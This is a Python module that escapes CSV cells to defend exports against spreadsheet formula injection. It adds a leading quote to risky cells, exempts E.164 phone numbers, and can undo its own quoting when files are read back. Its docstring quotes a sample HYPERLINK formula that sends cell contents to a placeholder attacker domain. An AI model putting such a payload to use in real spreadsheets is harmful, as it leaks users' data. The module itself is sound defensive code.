"""Cells of the CSV files Hatch writes, safe to open in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula, and a leading tab, carriage return or line feed can smuggle one in
(OWASP, "CSV Injection"). A message body, a subject or a contact's name is written by
whoever texts or emails the team, so an export must not hand a teammate's spreadsheet
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` to evaluate. Every such cell gets a
leading single quote, which spreadsheets read as "this is text".

One exception, on purpose: a sign followed by digits only (``+14155552671``, ``-5``,
``-2.5``), or a list of such numbers separated by "; " (a contact's numbers in one cell,
contacts.csv_files), is left as it is. OWASP quotes these too, but such a cell holds no
function, no reference and no operator between two values, so a spreadsheet can at most
read it as a number (or as text): nothing runs, nothing is fetched, nothing is computed.
Hatch stores every phone number in E.164 (``+`` and digits); quoting them would put an
apostrophe in front of every number of an export for each program that reads the file as
data (an import back into Hatch, pandas, a CRM), and a spreadsheet that reads
``+14155552671`` as the number 14155552671 does so for any CSV of phone numbers. Anything
else after a sign is quoted (``+1-1`` is arithmetic that a spreadsheet would compute).
"""

import re
from typing import Any

# OWASP's list (tab and carriage return included), and line feed, which OWASP added later.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE = "'"
_LOOK_CLOSER = frozenset((*FORMULA_STARTS, QUOTE))
_SIGNED_NUMBER = r"[+-]\d+(?:\.\d+)?"
_SIGNED_NUMBERS = re.compile(rf"{_SIGNED_NUMBER}(?:; {_SIGNED_NUMBER})*")


def csv_cell(value: Any) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text: a leading quote if it could be
    read as a formula; ``None`` as an empty cell.

    Written so that ``read_csv_cell`` gives the value back exactly: a value that already
    starts with quotes before a formula character gets one more.
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    # Most cells start with a letter or a digit: one look at the first character (exports
    # write millions of cells).
    if not text or text[0] not in _LOOK_CLOSER:
        return text
    return QUOTE + text if _needs_quote(text) else text


def read_csv_cell(cell: str) -> str:
    """The value ``csv_cell`` was given for ``cell``: the quote it added taken off.

    For files Hatch reads back (a contacts export imported again).
    """
    return cell[1:] if cell.startswith(QUOTE) and _needs_quote(cell) else cell


def _needs_quote(text: str) -> bool:
    # Leading quotes are skipped, so that a value such as "'=1" is quoted again and the
    # reader can tell it from the quote added to "=1".
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_STARTS) and not _SIGNED_NUMBERS.fullmatch(rest)
